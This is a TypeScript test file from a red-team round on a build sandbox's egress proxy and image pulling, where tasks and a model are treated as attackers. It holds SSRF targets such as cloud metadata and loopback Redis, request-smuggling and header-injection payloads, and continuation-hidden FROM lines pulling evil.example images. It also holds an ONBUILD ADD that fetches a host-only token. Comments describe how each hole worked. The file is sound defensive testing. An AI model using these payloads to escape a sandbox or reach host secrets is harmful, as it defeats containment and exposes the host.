/**
 * Red-team round on build egress and image acquisition (build-egress.ts, build-network.ts,
 * registry.ts, terminal/image.ts, terminal/confine-dockerfile.ts). The task set and the model
 * are the attacker: a Dockerfile's FROM lines, a build step's requests to probe's proxy,
 * a task.toml's docker_image. Every test asserts the SAFE outcome; the ones marked
 * Each hole this round found is closed; its test (HOLE, in the comment) asserts the safe outcome.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect as netConnect, createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { join } from 'node:path';
import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admit, archiveRoots, egressPolicy, forbiddenAddress, judge, type Resolve } from '../src/sandbox/build-egress.ts';
import { startProxy } from '../src/sandbox/build-network.ts';
import { BASE_IMAGE, client } from '../src/sandbox/docker.ts';
import { type BuildEgress, DEFAULT_IMAGE_SOURCES, type ImageSources } from '../src/settings/image-sources.ts';
import { acquireImage, parseReference } from '../src/sandbox/registry.ts';
import { namedImages } from '../src/terminal/confine-dockerfile.ts';
import { baseImagesOf, rebaseDockerfile, terminalImage } from '../src/terminal/image.ts';
import { loadTerminalTask } from '../src/terminal/task.ts';
import { commitImage, skipWithoutDocker } from './helpers/docker.ts';
import { tempDir } from './helpers/paths.ts';
import { type LoopbackRegistry, skipWithoutRegistry, startRegistry, untag } from './helpers/registry.ts';

const BASE_ARCHIVES = archiveRoots(['deb http://deb.debian.org/debian bookworm main\n']);
const egress = (over: Partial<BuildEgress> = {}): BuildEgress => ({ ...DEFAULT_IMAGE_SOURCES.egress, ...over });
const policy = (over: Partial<BuildEgress> = {}) => egressPolicy(egress(over), BASE_ARCHIVES);

/** Public names at public addresses; anything else does not resolve. */
const PUBLIC: Resolve = async (host) => {
  const table: Record<string, string[]> = {
    'deb.debian.org': ['203.0.113.80'],
    'archive.ubuntu.com': ['203.0.113.81'],
    'pypi.org': ['203.0.113.82'],
    'files.pythonhosted.org': ['203.0.113.83'],
    'registry.npmjs.org': ['203.0.113.84'],
  };
  const found = table[host];
  if (!found) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
  return found;
};

describe('request targets the proxy judges (pure rules)', () => {
  it('refuses every spelling of the host or loopback in an http request target', async () => {
    const p = policy();
    const targets = [
      // origin-form (the Host header would pick the destination): only absolute-form is judged
      '/debian/dists/bookworm/InRelease',
      '*',
      // credentials, and an allowed name used as userinfo in front of loopback
      'http://deb.debian.org@127.0.0.1/debian/x',
      'http://deb.debian.org%2f@127.0.0.1/debian/x',
      'http://user:pw@deb.debian.org/debian/x',
      // numeric and IPv6 spellings of loopback / private / link-local
      'http://2130706433/debian/x',
      'http://0x7f.1/debian/x',
      'http://0177.0.0.1/debian/x',
      'http://127.1/debian/x',
      'http://[::1]/debian/x',
      'http://[::ffff:127.0.0.1]/debian/x',
      'http://169.254.169.254/latest/meta-data/',
      'http://localhost/debian/x',
      // the allowed host, other spellings that are not the same origin
      'http://deb.debian.org./debian/x',
      'http://deb.debian.org:8080/debian/x',
      'http://deb.debian.org:22/debian/x',
      // out of the archive's path by dot segments, raw and encoded, and backslashes
      'http://deb.debian.org/debian/../etc/passwd',
      'http://deb.debian.org/debian/%2e%2e/etc/passwd',
      'http://deb.debian.org/debian/.%2E/.%2e/etc/passwd',
      'http://deb.debian.org/debian\\..\\..\\etc/passwd',
      'http://deb.debian.org/debianx/x',
      'http://deb.debian.org/debian',
      // other schemes in absolute form
      'https://deb.debian.org/debian/x',
      'ftp://deb.debian.org/debian/x',
      'file:///etc/passwd',
      'gopher://127.0.0.1:6379/_INFO',
    ];
    for (const target of targets) {
      const verdict = await admit(p, 'GET', target, PUBLIC);
      expect(verdict.allowed, target).toBe(false);
    }
    // What normalizes onto an allowed URL is fetched as the normalized URL, never elsewhere
    // (deb.debian.org is the base image's archive, a named rule: reached by its name).
    for (const target of ['http://DEB.DEBIAN.ORG/debian/x', 'http://deb.debian.org:80/debian/x', 'http:/deb.debian.org/debian/x']) {
      const verdict = await admit(p, 'GET', target, PUBLIC);
      expect(verdict, target).toMatchObject({ allowed: true, kind: 'http', address: 'deb.debian.org' });
      if (verdict.allowed && verdict.kind === 'http') expect(verdict.upstream.href).toBe('http://deb.debian.org/debian/x');
    }
  });

  it('allows only GET and HEAD', () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS', 'TRACE', 'PATCH', 'PROPFIND', 'get', undefined])
      expect(judge(policy(), method, 'http://deb.debian.org/debian/x').allowed, String(method)).toBe(false);
  });

  it('refuses CONNECT to any other port, host, or spelling of one', async () => {
    const p = policy();
    const targets = [
      'pypi.org:22',
      'pypi.org:80',
      'pypi.org:4430',
      'pypi.org',
      'pypi.org:',
      'pypi.org:443/',
      'pypi.org.:443',
      'www.pypi.org:443',
      'pypi.org@127.0.0.1:443',
      'pypi.org:443@127.0.0.1:443',
      '127.0.0.1:443',
      '2130706433:443',
      'localhost:443',
      '[::1]:443',
      '[::ffff:127.0.0.1]:443',
      'deb.debian.org:443',
      'deb.debian.org:80',
      ' pypi.org:443',
      'pypi.org:443 ',
      'pypi.org:99999',
      'pypi.org:+443',
      'http://pypi.org:443',
    ];
    for (const target of targets) expect((await admit(p, 'CONNECT', target, PUBLIC)).allowed, target).toBe(false);
    // Case is folded and a leading zero is the same port: still only pypi.org:443, at the checked address.
    for (const target of ['PYPI.ORG:443', 'pypi.org:0443'])
      expect(await admit(p, 'CONNECT', target, PUBLIC), target).toEqual({
        allowed: true,
        kind: 'tunnel',
        host: 'pypi.org',
        port: 443,
        address: '203.0.113.82',
      });
  });

  it('a user-named loopback index opens only its own origin (port included), not the rest of loopback', async () => {
    const p = policy({ pipIndexUrl: 'http://127.0.0.1:8080/simple/', npmRegistry: 'https://127.0.0.1:8443/' });
    for (const target of [
      'http://127.0.0.1:8081/simple/',
      'http://127.0.0.1/simple/',
      'http://127.0.0.2:8080/simple/',
      'http://[::1]:8080/simple/',
    ])
      expect((await admit(p, 'GET', target, PUBLIC)).allowed, target).toBe(false);
    for (const target of ['127.0.0.1:8080', '127.0.0.1:22', '127.0.0.1:443', 'localhost:8443'])
      expect((await admit(p, 'CONNECT', target, PUBLIC)).allowed, target).toBe(false);
    // Another spelling of the same address is the same origin: the URL parser, not the string, decides.
    expect(await admit(p, 'GET', 'http://2130706433:8080/simple/x/', PUBLIC)).toMatchObject({ allowed: true, address: '127.0.0.1' });
  });

  it('the apt-mirror rewrite keeps the mirror host and its prefix for every request it lets through', () => {
    const p = policy({ aptMirrors: new Map([['http://deb.debian.org/debian/', 'http://mirror.lab:3142/debian/']]) });
    for (const target of [
      'http://deb.debian.org/debian/x?y=1',
      'http://deb.debian.org/debian//@127.0.0.1/x',
      'http://deb.debian.org/debian/%2F%2F127.0.0.1/x',
      'http://deb.debian.org/debian/?@127.0.0.1/',
      'http://deb.debian.org/debian/#@127.0.0.1/',
      'http://deb.debian.org/debian/a/../../x',
    ]) {
      const verdict = judge(p, 'GET', target);
      if (!verdict.allowed) continue;
      expect(verdict.kind).toBe('http');
      if (verdict.kind !== 'http') continue;
      expect(verdict.upstream.origin, target).toBe('http://mirror.lab:3142');
      expect(verdict.upstream.pathname.startsWith('/debian/'), target).toBe(true);
    }
  });

  // Closed hole (low): the proxy checks the prefix on the WHATWG-parsed path, where `..%2f` and
  // `%2e%2e%2f` are not dot segments, and passes them on verbatim. A mirror server that
  // percent-decodes before resolving dot segments (nginx's URI normalization, Python's
  // http.server translate_path) serves `/debian/..%2f..%2fadmin` as `/admin`: a build reads
  // anything on the mirror's host outside the prefix the user named. Fix (build-egress.ts
  // judge): refuse a path under a rule holding an encoded `/`, `\` or `.` (%2f, %5c, %2e,
  // any case), or compare the prefix against the decoded, dot-resolved path.
  it('an apt mirror is reached only under its own prefix, however the path is encoded', () => {
    const p = policy({ aptMirrors: new Map([['http://deb.debian.org/debian/', 'http://127.0.0.1:3142/debian/']]) });
    const escapes: string[] = [];
    for (const target of [
      'http://deb.debian.org/debian/..%2f..%2fadmin',
      'http://deb.debian.org/debian/%2e%2e%2fadmin',
      'http://deb.debian.org/debian/..%5c..%5cadmin',
      'http://127.0.0.1:3142/debian/..%2fadmin',
    ]) {
      const verdict = judge(p, 'GET', target);
      if (!verdict.allowed || verdict.kind !== 'http') continue;
      // What a decoding server resolves the path to.
      const resolved = new URL(decodeURIComponent(verdict.upstream.pathname).replace(/\\/g, '/'), 'http://x').pathname;
      if (!resolved.startsWith('/debian/')) escapes.push(`${target} → ${verdict.upstream.href} (served as ${resolved})`);
    }
    expect(escapes).toEqual([]);
  });

  // Closed hole (low, defence in depth): a public name whose lookup answers an IPv6 address that
  // embeds a loopback/private IPv4 address is admitted. NAT64 (64:ff9b::/96) and 6to4
  // (2002::/16) route those to the embedded IPv4 host on networks that carry them; SIIT
  // (::ffff:0:0/96) likewise. Only the host's resolver decides the answer for pypi.org, so a
  // task cannot choose it. Fix (build-egress.ts forbiddenAddress): judge the embedded IPv4
  // of 64:ff9b::/96, 64:ff9b:1::/48, 2002::/16 and ::ffff:0:0/96; refuse fec0::/10 too.
  it('refuses addresses that embed a loopback or private IPv4 address', () => {
    for (const address of ['64:ff9b::7f00:1', '64:ff9b::a00:1', '2002:7f00:1::1', '2002:a9fe:a9fe::1', '::ffff:0:7f00:1', 'fec0::1'])
      expect(forbiddenAddress(address), address).toBeDefined();
  });

  it('classifies every loopback, private and link-local spelling the resolver may answer', () => {
    for (const address of [
      '127.0.0.1',
      '127.255.255.254',
      '0.0.0.0',
      '10.1.2.3',
      '172.16.0.1',
      '172.31.255.255',
      '192.168.1.1',
      '169.254.169.254',
      '100.64.0.1',
      '::1',
      '::',
      '::ffff:127.0.0.1',
      '::FFFF:7F00:1',
      '::ffff:10.0.0.1',
      '::127.0.0.1',
      'fe80::1',
      'fe80::1%eth0',
      'fd00::1',
      'fc00::1',
      'ff02::1',
      '0:0:0:0:0:0:0:1',
      '0000:0000:0000:0000:0000:0000:0000:0001',
    ])
      expect(forbiddenAddress(address), address).toBeDefined();
    for (const address of ['203.0.113.82', '151.101.0.223', '2a04:4e42::223', '172.32.0.1', '192.169.0.1'])
      expect(forbiddenAddress(address), address).toBeUndefined();
  });
});

describe('the proxy on its socket: smuggling, redirects, fan-out, buffering', () => {
  let dir: string;
  let close: () => Promise<void>;
  let mirror: Server;
  let elsewhere: Server;
  let mirrorPort: number;
  let elsewherePort: number;
  const mirrorHits: string[] = [];
  const elsewhereHits: string[] = [];
  let holdOpen = false;
  const held: Array<() => void> = [];
  let concurrent = 0;
  let peak = 0;
  let bigSent = 0;
  const log = { refused: [] as string[], unreachable: [] as string[] };

  beforeAll(async () => {
    elsewhere = createServer((req, res) => {
      elsewhereHits.push(`${req.method} ${req.url}`);
      res.end('SECRET');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    elsewherePort = (elsewhere.address() as AddressInfo).port;
    mirror = createServer((req, res) => {
      mirrorHits.push(
        `${req.method} ${req.headers.host} ${req.url} ${req.headers['transfer-encoding'] ?? ''}${req.headers['content-length'] ?? ''}`,
      );
      let body = '';
      req.on('data', (c: Buffer) => {
        body += c.toString();
      });
      req.on('end', () => {
        if (body) mirrorHits.push(`BODY ${body}`);
      });
      if (req.url?.endsWith('/redirect')) {
        res.writeHead(302, { location: `http://127.0.0.1:${elsewherePort}/secret` }).end();
        return;
      }
      if (req.url?.endsWith('/big')) {
        // Writes as fast as the proxy takes it: what the proxy buffers shows in what it accepted.
        const chunk = Buffer.alloc(1 << 20);
        const pump = () => {
          while (bigSent < 512 * 2 ** 20) {
            bigSent += chunk.length;
            if (!res.write(chunk)) return void res.once('drain', pump);
          }
          res.end();
        };
        res.on('close', () => {});
        return pump();
      }
      concurrent++;
      peak = Math.max(peak, concurrent);
      const finish = () => {
        concurrent--;
        res.end('ok');
      };
      if (holdOpen) held.push(finish);
      else finish();
    });
    await new Promise<void>((resolve) => mirror.listen(0, '127.0.0.1', resolve));
    mirrorPort = (mirror.address() as AddressInfo).port;
    dir = tempDir();
    const rules = egressPolicy(
      egress({
        pipIndexUrl: `http://127.0.0.1:${mirrorPort}/simple/`,
        aptMirrors: new Map([['http://deb.debian.org/debian/', `http://127.0.0.1:${mirrorPort}/mirror/`]]),
      }),
      BASE_ARCHIVES,
    );
    close = await startProxy(dir, rules, log, PUBLIC);
  });
  afterAll(async () => {
    for (const f of held.splice(0)) f();
    await close?.();
    mirror?.closeAllConnections();
    mirror?.close();
    elsewhere?.close();
  });

  /** Raw bytes to the proxy's socket; resolves with everything it answers before closing (or `ms`). */
  const raw = (bytes: string, ms = 1500) =>
    new Promise<string>((resolve) => {
      const socket = netConnect(join(dir, 'proxy.sock'));
      let text = '';
      socket.on('data', (c: Buffer) => {
        text += c.toString('latin1');
      });
      const done = () => {
        clearTimeout(timer);
        socket.destroy();
        resolve(text);
      };
      const timer = setTimeout(done, ms);
      socket.on('close', done);
      socket.on('error', done);
      socket.write(bytes);
    });

  it('sends an absolute-form request where its URL says, whatever the Host header says; origin-form is refused', async () => {
    mirrorHits.length = 0;
    const answer = await raw(
      `GET http://deb.debian.org/debian/x HTTP/1.1\r\nHost: 127.0.0.1:${elsewherePort}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 200/);
    expect(mirrorHits).toEqual([`GET 127.0.0.1:${mirrorPort} /mirror/x `]);
    const origin = await raw(`GET /secret HTTP/1.1\r\nHost: 127.0.0.1:${elsewherePort}\r\nConnection: close\r\n\r\n`);
    expect(origin).toMatch(/^HTTP\/1\.1 403/);
    const hostless = await raw('GET /secret HTTP/1.0\r\n\r\n');
    expect(hostless).toMatch(/^HTTP\/1\.1 (403|400)/);
    expect(elsewhereHits).toEqual([]);
  });

  it('does not follow a redirect from an allowed origin; following it through the proxy is refused', async () => {
    const answer = await raw(`GET http://127.0.0.1:${mirrorPort}/simple/redirect HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 302/);
    expect(answer).toContain(`location: http://127.0.0.1:${elsewherePort}/secret`);
    const follow = await raw(`GET http://127.0.0.1:${elsewherePort}/secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(follow).toMatch(/^HTTP\/1\.1 403/);
    expect(elsewhereHits).toEqual([]);
  });

  it('smuggles nothing: a body, a chunked second request, a CL/TE conflict, bytes after a refused CONNECT', async () => {
    mirrorHits.length = 0;
    const smuggled = `GET http://127.0.0.1:${elsewherePort}/secret HTTP/1.1\r\nHost: 127.0.0.1:${elsewherePort}\r\n\r\n`;
    // A GET carrying a chunked body that holds a request: the body is not passed on.
    const body = `GET http://deb.debian.org/debian/a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
    await raw(`${body}GET http://deb.debian.org/debian/b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(mirrorHits).toEqual([`GET 127.0.0.1:${mirrorPort} /mirror/a `, `GET 127.0.0.1:${mirrorPort} /mirror/b `]);
    // Content-Length and Transfer-Encoding together: refused by the parser, nothing sent.
    mirrorHits.length = 0;
    const conflict = await raw(
      `GET http://deb.debian.org/debian/c HTTP/1.1\r\nHost: x\r\nContent-Length: ${smuggled.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    );
    expect(conflict).toMatch(/^HTTP\/1\.1 400/);
    // Header injection through the request target: it stays encoded in the path, the Host is the mirror's.
    mirrorHits.length = 0;
    await raw(`GET http://deb.debian.org/debian/d%0d%0aHost:%20evil HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(mirrorHits).toEqual([`GET 127.0.0.1:${mirrorPort} /mirror/d%0d%0aHost:%20evil `]);
    // A raw CR or space in the target is the parser's to refuse.
    expect(await raw(`GET http://deb.debian.org/debian/e\rHost: evil HTTP/1.1\r\nHost: x\r\n\r\n`)).toMatch(/^HTTP\/1\.1 400/);
    // A refused CONNECT with a request right behind it: the connection ends, the request goes nowhere.
    const connect = await raw(`CONNECT 127.0.0.1:${elsewherePort} HTTP/1.1\r\nHost: x\r\n\r\n${smuggled}`);
    expect(connect).toMatch(/^HTTP\/1\.1 403/);
    // A CONNECT to the plain-http named index: not a tunnel.
    expect(await raw(`CONNECT 127.0.0.1:${mirrorPort} HTTP/1.1\r\nHost: x\r\n\r\n${smuggled}`)).toMatch(/^HTTP\/1\.1 403/);
    expect(elsewhereHits).toEqual([]);
  });

  it('does not buffer what a slow build does not read', async () => {
    const socket = netConnect(join(dir, 'proxy.sock'));
    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
    socket.write(`GET http://127.0.0.1:${mirrorPort}/simple/big HTTP/1.1\r\nHost: x\r\n\r\n`);
    socket.pause();
    await new Promise((r) => setTimeout(r, 2000));
    // Kernel socket buffers and stream high-water marks, not the whole answer.
    expect(bigSent).toBeLessThan(64 * 2 ** 20);
    socket.destroy();
  });

  // Closed hole (medium, host DoS): one connection may pipeline any number of requests, and the
  // proxy admits each as soon as it is parsed and opens an upstream connection for it
  // (build-network.ts startProxy → forward: http.request per request, global agent,
  // no maxSockets, no per-connection or per-build limit). A build step that writes 2,000
  // `GET http://deb.debian.org/debian/x` in one write makes probe's process hold 2,000
  // sockets at once (the relay's thread cap in the gateway bounds connections, not requests
  // per connection): past the descriptor limit every other build, sandbox and file open of
  // the run fails with EMFILE. Fix: serve one request per connection at a time (pause the
  // parser until the response ends, or `server.maxRequestsPerSocket`/close after each), and
  // cap concurrent upstream requests and tunnels per build (an Agent with maxSockets).
  it('one connection cannot fan out into hundreds of upstream connections', async () => {
    holdOpen = true;
    peak = 0;
    const socket = netConnect(join(dir, 'proxy.sock'));
    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
    socket.on('data', () => {});
    socket.on('error', () => {});
    const one = `GET http://deb.debian.org/debian/fan HTTP/1.1\r\nHost: x\r\n\r\n`;
    socket.write(one.repeat(300));
    await new Promise((r) => setTimeout(r, 3000));
    const reached = peak;
    holdOpen = false;
    for (const f of held.splice(0)) f();
    socket.destroy();
    expect(reached).toBeLessThanOrEqual(16);
  });
});

describe('image references read as Docker reads them', () => {
  it('never yields a path that leaves the registry or a registry that is not the first component', () => {
    for (const name of [
      '../x',
      'a/../b',
      'library/..',
      'x/./y',
      'a..b',
      '.x',
      'x.',
      '-x',
      'x-',
      'x__',
      'A/b',
      'python:3 ',
      ' python',
      'python:../../x',
      'python@sha256:../../x',
      'docker.io/../x',
      'ghcr.io/a/b:t@sha256:../../',
    ]) {
      const ref = parseReference(name);
      if (ref) {
        expect(
          ref.path.split('/').every((c) => c !== '..' && c !== '.' && c !== ''),
          name,
        ).toBe(true);
        expect(ref.registry.includes('/'), name).toBe(false);
      }
    }
    // Docker's own normalization of Docker Hub names: the local name probe-base:bookworm stays one image.
    expect(parseReference('docker.io/library/probe-base:bookworm')).toEqual(parseReference('probe-base:bookworm'));
    expect(parseReference('index.docker.io/library/probe-base:bookworm')).toEqual(parseReference('probe-base:bookworm'));
    // Upper case is not a Docker Hub path; Docker would read the first component as a registry host: nothing is pulled.
    expect(parseReference('Probe-Base:bookworm')).toBeUndefined();
    expect(parseReference('PROBE/base')).toBeUndefined();
  });

  it('acquireImage never pulls or re-tags a name the engine has (a fake engine records what it is asked)', async () => {
    const calls: string[] = [];
    const fake = {
      getImage: (name: string) => ({
        inspect: async () => {
          calls.push(`inspect ${name}`);
          if (name === 'probe-base:bookworm' || name === 'probe-terminal:task-0123456789abcdef0123') return { Id: 'sha256:local' };
          throw new Error('no such image');
        },
        tag: async (t: unknown) => {
          calls.push(`tag ${name} ${JSON.stringify(t)}`);
        },
      }),
      pull: async (ref: string) => {
        calls.push(`pull ${ref}`);
        throw new Error('dial tcp: no route to host');
      },
      modem: {},
    } as unknown as Docker;
    const settings = { pull: 'missing' as const, mirrors: new Map([['docker.io', '127.0.0.1:5000']]) };
    for (const name of ['probe-base:bookworm', 'probe-terminal:task-0123456789abcdef0123']) {
      const got = await acquireImage(fake, name, settings);
      expect(got).toMatchObject({ kind: 'available', image: { origin: 'local', id: 'sha256:local' } });
    }
    expect(calls.filter((c) => !c.startsWith('inspect'))).toEqual([]);
    // A name that is not a reference is never pulled.
    for (const name of ['$BASE', '$' + '{IMG}', '--platform=x', 'x y', 'a//b', 'UPPER/x'])
      expect((await acquireImage(fake, name, settings)).kind, name).toBe('unavailable');
    expect(calls.filter((c) => c.startsWith('pull') || c.startsWith('tag'))).toEqual([]);
  });
});

describe('FROM lines read as the builder reads them', () => {
  // Closed hole (high): image.ts reads FROM lines with a one-line regex (FROM_LINE), while the
  // builder (and confine-dockerfile.ts) joins continuations first. A FROM the regex does not
  // see is neither acquired (no mirror, no `--pull never`, no digest) nor rebased, and
  // confineContext skips the ONBUILD check for an image the engine lacks, so the classic
  // builder pulls it itself over the host's network and runs its ONBUILD triggers before any
  // confined step: RUN with CAP_NET_RAW, and `ADD http://127.0.0.1:…` / `http://169.254.169.254/…`
  // fetched by dockerd from the host's network. Inputs (terminal/image.ts:98, FROM_LINE):
  //   `FROM evil.example/x:1 \` + `AS base`, `FR\` + `OM evil.example/x:1`, and with `# escape=``.
  // Fix: take the FROMs from parseDockerfile's instructions (baseImagesOf and rebaseDockerfile
  // working on the parsed file, re-emitted), and in confineContext refuse any FROM that is
  // neither an earlier stage nor an image the engine has (as COPY --from already is).
  it('every image the builder would read in a FROM is acquired or rebased', () => {
    const dockerfiles = [
      'FROM evil.example/onbuild:1 \\\n  AS base\nRUN true\n',
      'FR\\\nOM evil.example/onbuild:1\nRUN true\n',
      'FROM \\\n# a comment inside the continuation\n evil.example/onbuild:1 \\\n AS base\nRUN true\n',
      '# escape=`\nFROM evil.example/onbuild:1 `\n  AS base\nRUN true\n',
    ];
    const missed: string[] = [];
    for (const text of dockerfiles) {
      const acquired = baseImagesOf(text);
      const rebased = rebaseDockerfile(text, () => false, BASE_IMAGE).text;
      let reads: string[];
      try {
        reads = namedImages(rebased, 'Dockerfile');
      } catch {
        continue; // refused at confinement: safe
      }
      for (const image of reads)
        if (image !== BASE_IMAGE) missed.push(`${JSON.stringify(text)}: builder reads FROM ${image}; acquired ${JSON.stringify(acquired)}`);
    }
    expect(missed).toEqual([]);
  });

  it('a FROM on one line, in any case and with flags, is acquired and rebased', () => {
    const text = 'from --platform=linux/amd64 evil.example/a:1 as one\nFROM\tevil.example/b:2\nFROM one\n';
    expect(baseImagesOf(text)).toEqual(['evil.example/a:1', 'evil.example/b:2']);
    const rebased = rebaseDockerfile(text, () => false, BASE_IMAGE).text;
    expect(namedImages(rebased, 'Dockerfile')).toEqual([BASE_IMAGE, 'one']);
  });
});

/** A task directory whose Dockerfile is `dockerfile`. */
function task(dockerfile: string): string {
  const dir = join(tempDir(), 'egress-attack');
  mkdirSync(join(dir, 'environment'), { recursive: true });
  mkdirSync(join(dir, 'tests'));
  writeFileSync(join(dir, 'task.toml'), 'version = "1.0"\n[environment]\nbuild_timeout_sec = 300\n');
  writeFileSync(join(dir, 'instruction.md'), 'Do nothing.\n');
  writeFileSync(join(dir, 'environment', 'Dockerfile'), dockerfile);
  writeFileSync(join(dir, 'tests', 'test.sh'), '#!/bin/bash\necho 0 > /logs/verifier/reward.txt\n');
  return dir;
}

/** A TCP listener on loopback counting connections (a host service the engine must not be sent to). */
async function listener(): Promise<{ server: TcpServer; port: number; hits: () => number }> {
  let hits = 0;
  const server = createTcpServer((socket) => {
    hits++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, hits: () => hits };
}

describe.skipIf(skipWithoutDocker)('the engine sent to host loopback by a task', () => {
  // Closed hole (medium): a task's FROM / task.toml docker_image / SWE row image naming a loopback
  // (or private, link-local) registry host is pulled by the engine from the host's own
  // network, and 127.0.0.0/8 is an insecure registry by default, so dockerd speaks plain HTTP
  // to any host loopback port the task names (`FROM 127.0.0.1:6379/x`, `localhost:8080/x`),
  // reports the answer in the pull error (kept in the image's notes / the InputError), and
  // pulls a lab's loopback-only or private registry content into the task's image with the
  // engine's credentials. registry.ts acquire (line ~129) pulls `ref.registry` whatever it
  // is. Fix: pull only from registries that are public names resolving to public addresses,
  // or a registry/mirror the user named (`--registry-mirror`, a `--registry` allow-list);
  // refuse `localhost`, IP literals and names resolving to loopback/private/link-local.
  it('a FROM naming a loopback registry makes the engine connect to nothing on the host', async () => {
    const service = await listener();
    try {
      for (const name of [`127.0.0.1:${service.port}/x:1`, `localhost:${service.port}/x:1`]) {
        const got = await acquireImage(client(), name, { pull: 'missing', mirrors: new Map() });
        expect(got.kind).toBe('unavailable');
      }
      expect(service.hits()).toBe(0);
    } finally {
      service.server.close();
    }
  }, 120_000);

  it('--pull never sends the engine nowhere for a loopback registry', async () => {
    const service = await listener();
    try {
      const got = await acquireImage(client(), `127.0.0.1:${service.port}/y:1`, { pull: 'never', mirrors: new Map() });
      expect(got.kind).toBe('unavailable');
      expect(service.hits()).toBe(0);
    } finally {
      service.server.close();
    }
  });

  it('a FROM spelled as the probe base image finds the local one, and nothing is pulled or re-tagged', async () => {
    const docker = client();
    const before = (await docker.getImage(BASE_IMAGE).inspect()).Id;
    for (const name of [`docker.io/library/${BASE_IMAGE}`, `index.docker.io/library/${BASE_IMAGE}`]) {
      const got = await acquireImage(docker, name, { pull: 'missing', mirrors: new Map() });
      expect(got).toMatchObject({ kind: 'available', image: { origin: 'local', id: before } });
    }
    expect((await docker.getImage(BASE_IMAGE).inspect()).Id).toBe(before);
  });
});

describe.skipIf(skipWithoutDocker || skipWithoutRegistry)('a FROM hidden behind a continuation, end to end', () => {
  let registry: LoopbackRegistry;
  let secret: Server;
  let secretPort: number;
  const secretHits: string[] = [];
  const image = 'evil/onbuild:1';

  beforeAll(async () => {
    secret = createServer((req, res) => {
      secretHits.push(`${req.method} ${req.url}`);
      res.end('host-only secret\n');
    });
    await new Promise<void>((resolve) => secret.listen(0, '127.0.0.1', resolve));
    secretPort = (secret.address() as AddressInfo).port;
    registry = await startRegistry();
    const local = await commitImage(BASE_IMAGE, `probe-test-egress-onbuild-${process.pid}`, async () => {}, [
      `ONBUILD ADD http://127.0.0.1:${secretPort}/token /host-token`,
    ]);
    registry.push(local, image);
    untag(local);
  }, 300_000);
  afterAll(async () => {
    if (registry) untag(`${registry.host}/${image}`);
    await registry?.stop();
    secret?.close();
  });

  // Closed hole (high), the FROM_LINE mismatch above end to end: with `--pull never`, a task whose
  // FROM continues onto a second line gets an image pulled by the builder from a registry it
  // names, and that image's ONBUILD `ADD http://127.0.0.1:<port>/token` is fetched by dockerd
  // from the host's loopback into the task's image (the agent reads it at /host-token).
  it("the builder pulls nothing and fetches nothing from the host's loopback", async () => {
    const dir = task(`FROM ${registry.host}/${image} \\\n  AS base\nRUN cat /host-token || true\n`);
    const sources: ImageSources = { ...DEFAULT_IMAGE_SOURCES, registry: { pull: 'never', mirrors: new Map() } };
    await terminalImage(client(), loadTerminalTask(dir), sources).catch(() => undefined);
    expect(secretHits).toEqual([]);
    await expect(client().getImage(`${registry.host}/${image}`).inspect()).rejects.toThrow();
  }, 300_000);
});
